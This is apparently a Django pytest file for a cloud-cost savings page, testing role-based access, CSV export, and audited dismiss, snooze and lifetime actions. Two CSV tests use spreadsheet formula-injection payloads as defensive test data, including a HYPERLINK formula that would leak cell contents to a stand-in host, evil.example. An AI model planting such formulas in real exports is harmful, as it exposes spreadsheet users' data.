"""The savings page: who sees which recommendations, CSV, and the audited, double-submit-safe actions."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from access.models import AuditEvent, Team
from costs.choices import RecommendationAction, RecommendationKind, RecommendationStatus
from costs.forecast import month_bounds
from costs.models import Recommendation
from environments.models import Environment
from portal.demo import Persona
from tests.costs.savings_data import demo_cluster, make_environment
from tests.helpers import FORMULA_PAYLOADS, formulas_in, queries_for

pytestmark = [pytest.mark.usefixtures("demo"), pytest.mark.shared_demo]

ClientFor = Callable[[Persona | None], Client]
SAVINGS = "/costs/savings/"


def recommendation(
    title: str,
    saving: str,
    *,
    team: str = "student-experience",
    kind: str = RecommendationKind.DATABASE_SIZE,
    currency: str = "USD",
    environment: Environment | None = None,
    **fields: Any,
) -> Recommendation:
    cluster = demo_cluster()
    return Recommendation.objects.create(
        key=f"test:{title}:{currency}",
        kind=kind,
        title=title,
        evidence=[f"Because of {title}."],
        monthly_saving=Decimal(saving),
        currency=currency,
        team=Team.objects.get(slug=team),
        environment=environment,
        cluster=cluster,
        region=cluster.region,
        tier="staging",
        **fields,
    )


def titles(response: Any) -> list[str]:
    return [row.title for row in response.context["recommendations"]]


def test_a_developer_sees_their_teams_recommendations_and_a_manager_everyones(client_for: ClientFor) -> None:
    recommendation("Smaller database for checkout", "77.38")
    recommendation("Smaller database for tutor rota", "500.00", team="tutor-tools")
    recommendation("Spot for reporting", "20.00", team="tutor-tools", kind=RecommendationKind.SPOT, currency="EUR")

    developer = client_for(Persona.DEVELOPER).get(SAVINGS)
    manager = client_for(Persona.MANAGER).get(SAVINGS)

    assert titles(developer) == ["Smaller database for checkout"]
    assert b"tutor rota" not in developer.content
    # The largest saving first; currencies stay apart in the totals.
    assert titles(manager) == ["Smaller database for tutor rota", "Smaller database for checkout", "Spot for reporting"]
    assert [(label, currency, total) for label, currency, total, _ in manager.context["totals"]] == [
        (RecommendationKind.DATABASE_SIZE.label, "USD", Decimal("577.38")),
        (RecommendationKind.SPOT.label, "EUR", Decimal("20.00")),
    ]
    assert b'data-chart="bar"' in manager.content


def test_people_without_cost_access_are_refused_and_anonymous_visitors_sent_to_sign_in(
    client_for: ClientFor,
) -> None:
    assert client_for(Persona.AUDITOR).get(SAVINGS).status_code == 403
    response = client_for(None).get(SAVINGS)
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_dismissed_snoozed_and_retired_recommendations_are_not_listed(client_for: ClientFor) -> None:
    recommendation("Open", "10.00")
    recommendation("Dismissed", "10.00", status=RecommendationStatus.DISMISSED)
    recommendation("Snoozed", "10.00", status=RecommendationStatus.SNOOZED, snoozed_until=timezone.now() + timedelta(1))
    recommendation("Snooze over", "10.00", status=RecommendationStatus.SNOOZED, snoozed_until=timezone.now())
    recommendation("Retired", "10.00", current=False)

    assert sorted(titles(client_for(Persona.MANAGER).get(SAVINGS))) == ["Open", "Snooze over"]


def test_the_filters_narrow_the_list_and_htmx_gets_only_the_table(client_for: ClientFor) -> None:
    recommendation("Smaller database for checkout", "77.38")
    recommendation("Spot for reporting", "20.00", kind=RecommendationKind.SPOT)
    manager = client_for(Persona.MANAGER)

    response = manager.get(SAVINGS, {"kind": RecommendationKind.SPOT}, headers={"HX-Request": "true"})

    assert titles(response) == ["Spot for reporting"]
    assert b"<html" not in response.content
    assert titles(manager.get(SAVINGS, {"q": "checkout"})) == ["Smaller database for checkout"]


def test_the_page_reads_a_fixed_number_of_queries_however_many_recommendations(client_for: ClientFor) -> None:
    manager = client_for(Persona.MANAGER)
    for number in range(2):
        environment = make_environment(f"few-{number}")
        recommendation(f"Few {number}", "1.00", environment=environment, action=RecommendationAction.SET_TTL)
    few = queries_for(manager, SAVINGS)
    for number in range(6):
        environment = make_environment(f"many-{number}")
        recommendation(f"Many {number}", "1.00", environment=environment, action=RecommendationAction.SET_TTL)

    assert queries_for(manager, SAVINGS) == few


def test_this_months_realised_savings_are_shown_per_currency(client_for: ClientFor) -> None:
    month_start, _ = month_bounds(timezone.localdate())
    kind = RecommendationKind.TTL_REALISED
    recommendation("gone expired", "40.00", kind=kind, realised=True, period_start=month_start)
    recommendation("old expired", "99.00", kind=kind, realised=True, period_start=month_start - timedelta(days=40))

    response = client_for(Persona.DEVELOPER).get(SAVINGS)

    assert [row.title for row in response.context["realised"]] == ["gone expired"]
    assert response.context["realised_totals"] == [("USD", Decimal("40.00"))]
    assert titles(response) == []  # realised savings are not recommendations


# --- CSV -----------------------------------------------------------------------------------------------------


def test_a_manager_exports_what_the_page_shows_as_csv_and_a_developer_may_not(client_for: ClientFor) -> None:
    recommendation("Smaller database for checkout", "77.38")
    recommendation("=HYPERLINK(evil)", "5.00", team="tutor-tools")
    recommendation("Dismissed", "10.00", status=RecommendationStatus.DISMISSED)

    response = client_for(Persona.MANAGER).get(reverse("costs:savings_export"))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(row["title"], row["monthly_saving"], row["currency"]) for row in rows] == [
        ("Smaller database for checkout", "77.38", "USD"),
        ("'=HYPERLINK(evil)", "5.00", "USD"),  # a formula is written as text
    ]
    assert client_for(Persona.DEVELOPER).get(reverse("costs:savings_export")).status_code == 403
    assert client_for(Persona.AUDITOR).get(reverse("costs:savings_export")).status_code == 403


def test_the_csv_writes_no_title_a_spreadsheet_of_any_locale_would_run(client_for: ClientFor) -> None:
    for payload in FORMULA_PAYLOADS:
        recommendation(payload, "5.00")

    response = client_for(Persona.MANAGER).get(reverse("costs:savings_export"))

    text = response.content.decode()
    assert formulas_in(text) == []
    titles = {row["title"] for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert 'x;\'=HYPERLINK("https://evil.example/?leak="&A1,"Open")' in titles


# --- dismiss and snooze --------------------------------------------------------------------------------------


def test_a_manager_dismisses_a_recommendation_once_however_often_the_form_is_sent(client_for: ClientFor) -> None:
    item = recommendation("Smaller database for checkout", "77.38")
    manager = client_for(Persona.MANAGER)
    url = reverse("costs:savings_dismiss", args=[item.pk])

    first, second = manager.post(url), manager.post(url)

    assert (first.status_code, second.status_code) == (302, 302)
    item.refresh_from_db()
    assert item.status == RecommendationStatus.DISMISSED
    events = AuditEvent.objects.filter(verb="costs.recommendation_dismissed", object_id=str(item.pk))
    assert [event.actor.username for event in events if event.actor] == ["manager"]
    assert titles(manager.get(SAVINGS)) == []


def test_a_snooze_hides_a_recommendation_for_its_days(client_for: ClientFor) -> None:
    item = recommendation("Smaller database for checkout", "77.38")
    manager = client_for(Persona.MANAGER)

    manager.post(reverse("costs:savings_snooze", args=[item.pk]), {"days": "14"})
    manager.post(reverse("costs:savings_snooze", args=[item.pk]), {"days": "14"})

    item.refresh_from_db()
    assert item.status == RecommendationStatus.SNOOZED
    assert item.snoozed_until is not None
    assert timezone.now() + timedelta(days=13) < item.snoozed_until <= timezone.now() + timedelta(days=14)
    assert AuditEvent.objects.filter(verb="costs.recommendation_snoozed", object_id=str(item.pk)).count() == 1
    assert titles(manager.get(SAVINGS)) == []


def test_dismissing_needs_costs_change_and_other_teams_recommendations_do_not_exist(client_for: ClientFor) -> None:
    ours = recommendation("Smaller database for checkout", "77.38")
    theirs = recommendation("Smaller database for tutor rota", "500.00", team="tutor-tools")

    developer = client_for(Persona.DEVELOPER)
    assert developer.post(reverse("costs:savings_dismiss", args=[ours.pk])).status_code == 403
    assert developer.post(reverse("costs:savings_dismiss", args=[theirs.pk])).status_code == 404
    assert client_for(Persona.AUDITOR).post(reverse("costs:savings_snooze", args=[ours.pk])).status_code == 404
    assert developer.get(reverse("costs:savings_dismiss", args=[ours.pk])).status_code == 405
    assert not AuditEvent.objects.filter(verb__startswith="costs.recommendation_").exists()
    ours.refresh_from_db()
    assert ours.status == RecommendationStatus.OPEN


# --- setting a lifetime ------------------------------------------------------------------------------------------


def ttl_recommendation(environment: Environment, hours: int = 168) -> Recommendation:
    return recommendation(
        f"Give {environment.name} a lifetime",
        "234.17",
        team=environment.team.slug,
        kind=RecommendationKind.ENVIRONMENT_TTL,
        environment=environment,
        action=RecommendationAction.SET_TTL,
        action_hours=hours,
    )


def test_a_developer_sets_the_recommended_lifetime_from_the_page(client_for: ClientFor) -> None:
    environment = make_environment("forever")
    item = ttl_recommendation(environment)
    developer = client_for(Persona.DEVELOPER)
    page = developer.get(SAVINGS)
    assert b'data-action="set-ttl"' in page.content
    before = timezone.now()

    response = developer.post(reverse("costs:savings_set_ttl", args=[item.pk]))
    developer.post(reverse("costs:savings_set_ttl", args=[item.pk]))  # a double submit

    assert response.status_code == 302
    environment.refresh_from_db()
    assert environment.expires_at is not None
    assert before + timedelta(hours=168) <= environment.expires_at <= timezone.now() + timedelta(hours=168)
    item.refresh_from_db()
    assert item.status == RecommendationStatus.ACTED
    assert AuditEvent.objects.filter(verb="environments.expiry_set", object_id=str(environment.pk)).count() == 1


def test_setting_a_lifetime_is_refused_without_environments_change(client_for: ClientFor) -> None:
    environment = make_environment("forever")
    item = ttl_recommendation(environment)
    theirs = ttl_recommendation(make_environment("theirs", team="tutor-tools"))

    manager = client_for(Persona.MANAGER)
    assert b'data-action="set-ttl"' not in manager.get(SAVINGS).content
    assert manager.post(reverse("costs:savings_set_ttl", args=[item.pk])).status_code == 403
    assert client_for(Persona.DEVELOPER).post(reverse("costs:savings_set_ttl", args=[theirs.pk])).status_code == 404
    assert client_for(Persona.AUDITOR).post(reverse("costs:savings_set_ttl", args=[item.pk])).status_code == 404

    environment.refresh_from_db()
    assert environment.expires_at is None
    assert not AuditEvent.objects.filter(verb="environments.expiry_set").exists()


def test_a_refused_lifetime_is_shown_as_a_message_not_an_error(client_for: ClientFor) -> None:
    environment = make_environment("preview-forever", template="preview")
    item = ttl_recommendation(environment, hours=500)  # more than the template's 72 hours

    response = client_for(Persona.DEVELOPER).post(reverse("costs:savings_set_ttl", args=[item.pk]), follow=True)

    assert response.status_code == 200
    assert "at most 72 hours" in response.content.decode()
    environment.refresh_from_db()
    assert environment.expires_at is None
